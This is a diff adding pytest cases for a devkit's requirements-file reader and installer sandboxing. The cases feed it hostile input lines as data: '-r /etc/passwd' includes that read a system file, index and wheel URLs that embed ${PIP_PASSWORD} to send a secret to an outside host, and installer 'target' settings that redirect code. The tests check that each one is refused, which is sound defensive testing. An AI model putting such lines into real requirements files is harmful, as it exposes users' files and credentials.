@@ -137,6 +137,13 @@ async def test_satisfied_requirements_need_no_environment(make_with_environments
         ("backend/requirements.txt", "-r /etc/passwd\n", "is not a requirement"),
         ("backend/requirements.txt", "-e .\n", "is not a requirement"),
         ("backend/requirements.txt", "./wheel.whl\n", "is not a requirement"),
+        ("backend/requirements.txt", "--pre -e ./here\n", "is not a requirement"),
+        ("backend/requirements.txt", "--no-index -r /etc/passwd\n", "is not a requirement"),
+        ("backend/requirements.txt", "--index-url http://h.example/${PIP_PASSWORD}\n", "is not a requirement"),
+        ("backend/requirements.txt", "x @ https://h.example/${PIP_PASSWORD}.whl\n", "names no wheel"),
+        ("backend/requirements.txt", "x @ file:///srv/x-1.0-py3-none-any.whl\n", "names no wheel"),
+        ("backend/requirements.txt", "x @ git+https://h.example/x.whl\n", "names no wheel"),
+        ("backend/requirements.txt", "x @ https://h.example/x-1.0.tar.gz\n", "names no wheel"),
     ],
 )
 def test_what_cannot_be_given_is_refused_with_a_reason(tmp_path: Path, path: str, text: str, said: str) -> None:
@@ -144,6 +151,37 @@ def test_what_cannot_be_given_is_refused_with_a_reason(tmp_path: Path, path: str
     (tmp_path / path).write_text(text)
     with pytest.raises(RequirementsRefused, match=re.escape(said)):
         read(tmp_path)
+
+
+def test_the_installer_is_told_what_was_understood_and_nothing_else(tmp_path: Path) -> None:
+    """A line the installer would read otherwise than we do could have it print any file of the devkit's user."""
+    (tmp_path / "backend").mkdir()
+    (tmp_path / "backend/requirements.txt").write_text(
+        "# said \\\n-r /etc/passwd\nhla-compass==6.0.2 \\\n    --hash=sha256:0f \\\n  --hash=sha256:1e  # both\n"
+        "--only-binary=:none:\n--index-url=https://h.example/simple\n--pre\n"
+        "x @ https://h.example/x-1.0-py3-none-any.whl#sha256=0f ; python_version > '3'\n"
+    )
+    found = read(tmp_path)
+    assert found is not None
+    assert found.text.splitlines() == [
+        "hla-compass==6.0.2 --hash=sha256:0f --hash=sha256:1e",
+        "--index-url https://h.example/simple",
+        "--pre",
+        'x @ https://h.example/x-1.0-py3-none-any.whl#sha256=0f ; python_version > "3"',
+    ]
+
+
+async def test_files_of_the_module_are_no_settings_of_the_installer(
+    make_with_environments: Callable[..., Any], wheels: Path, tmp_path: Path
+) -> None:
+    """It installs as the devkit's user: `target` would put a module's code anywhere, the devkit's own folder too."""
+    bench: Bench = await make_with_environments()
+    settings = f'target = "{tmp_path / "elsewhere"}"\n'
+    files = _asking(wheels, "hla-compass==6.0.2", "peptide-masses>=1.0")
+    files |= {"backend/uv.toml": f"[pip]\n{settings}", "pyproject.toml": f"[tool.uv.pip]\n{settings}"}
+    files |= {"backend/venv.py": "raise SystemExit('the module runs')", "backend/pip.py": "raise SystemExit('it runs')"}
+    assert (await bench.run(bench.module("settled", BODY, files=files))).results["version"] == "1.0"
+    assert not (tmp_path / "elsewhere").exists()
 
 
 async def test_unfinished_and_aged_environments_are_removed_at_start(tmp_path: Path) -> None:
